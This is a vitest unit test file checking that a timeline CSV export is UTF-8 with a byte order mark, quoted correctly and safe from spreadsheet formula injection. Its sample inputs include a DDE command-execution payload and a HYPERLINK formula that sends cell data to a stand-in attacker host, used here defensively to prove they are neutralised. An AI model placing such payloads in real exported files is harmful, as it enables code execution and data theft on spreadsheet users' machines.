import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { currentEdition } from '#lib/content/store/current-edition.ts';
import { localeOf } from '#lib/i18n/locale.ts';
import { csv, timelineCsv } from '#lib/publishing/data/timeline-csv.ts';
import { timelineData } from '#lib/publishing/data/timeline-data.ts';
import { anEdition } from '#tests/component/edition.ts';
import { aMilestone } from '#tests/component/fixtures.ts';
import { hostile } from '#tests/unit/publishing/whole-edition.ts';

const locale = localeOf('en');
const shipped = timelineData(await currentEdition(), locale);

const rowsOf = (text: string): readonly (readonly string[])[] => parse(text, { bom: true });

/** As docs/open-data.md tells readers to do it. */
const withoutMarks = (cell: string) => cell.replace(/(^|[,;"])'(?=['=+\-@＝＋－＠])/g, '$1');

const cellOf = (text: string) => rowsOf(csv(['a', 'b'], [[text, 'b']]))[1]?.[0] ?? '';

describe('a table', () => {
  it('is UTF-8 with a byte order mark, a header and CRLF', () => {
    expect(
      csv(
        ['id', 'name'],
        [
          ['a', '天宫'],
          ['b', null],
        ],
      ),
    ).toBe('\uFEFFid,name\r\na,天宫\r\nb,\r\n');
  });

  it('quotes what would end a cell', () => {
    expect(csv(['a'], [['one, two'], ['say "yes"'], ['x;y']])).toBe(
      '\uFEFFa\r\n"one, two"\r\n"say ""yes"""\r\n"x;y"\r\n',
    );
  });

  it('keeps a negative number a number', () => {
    expect(csv(['latitude'], [[-33.9]])).toBe('\uFEFFlatitude\r\n-33.9\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '＝1+1',
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("https://evil.example?"&A1,"see")`,
    'a;=1+1',
    'a,=1+1',
    'a";=1+1',
    'a\n=1+1',
  ])('shows no spreadsheet a formula: %j', (text) => {
    // Whatever a spreadsheet takes for the end of a cell: a comma, a semicolon, a quotation mark, a tab, a line.
    const starts = cellOf(text).split(/[,;"\t\r\n]/);
    for (const start of starts) expect(start).not.toMatch(/^[=+\-@＝＋－＠]/);
  });

  it.each(['=1', `'=1`, `''=1`, `'quoted' word`, `a;=1`, `a;'=1`, `it's`, hostile, '-5 °C, +3'])(
    'loses nothing: %j',
    (text) => {
      expect(withoutMarks(cellOf(text))).toBe(text);
    },
  );
});

describe('the timeline as a table', () => {
  it('holds a row a milestone with the same words as timeline.json', () => {
    const [header = [], ...rows] = rowsOf(timelineCsv(shipped));
    expect(rows).toHaveLength(shipped.milestones.length);
    const column = (name: string) => rows.map((row) => withoutMarks(row[header.indexOf(name)] ?? ''));
    for (const name of ['id', 'title', 'date', 'dateInWords', 'status', 'address', 'stepAs', 'foresees'] as const) {
      expect(column(name)).toEqual(shipped.milestones.map((milestone) => milestone[name] ?? ''));
    }
    expect(column('latitude')).toEqual(shipped.milestones.map(({ place }) => String(place?.latitude ?? '')));
  });

  it('reads as is promised', async () => {
    const milestones = [
      aMilestone({ id: 'plain' }),
      aMilestone({
        id: 'hostile',
        title: `=1+1 ${hostile}`,
        date: '2011',
        place: { name: 'Sydney', lat: -33.9, lon: 151.2 },
        agencies: ['CMSA', '@SUPARCO'],
      }),
    ];
    const text = timelineCsv(timelineData(anEdition({ milestones }), locale));
    await expect(text).toMatchFileSnapshot('../../../fixtures/data/timeline.csv');
  });

  it('holds a thousand milestones, and is the same each time', () => {
    const many = Array.from({ length: 1000 }, (_, index) => aMilestone({ id: `m-${index}` }));
    const data = timelineData(anEdition({ milestones: many }), locale);
    expect(rowsOf(timelineCsv(data))).toHaveLength(1001);
    expect(timelineCsv(data)).toBe(timelineCsv(data));
  });
});
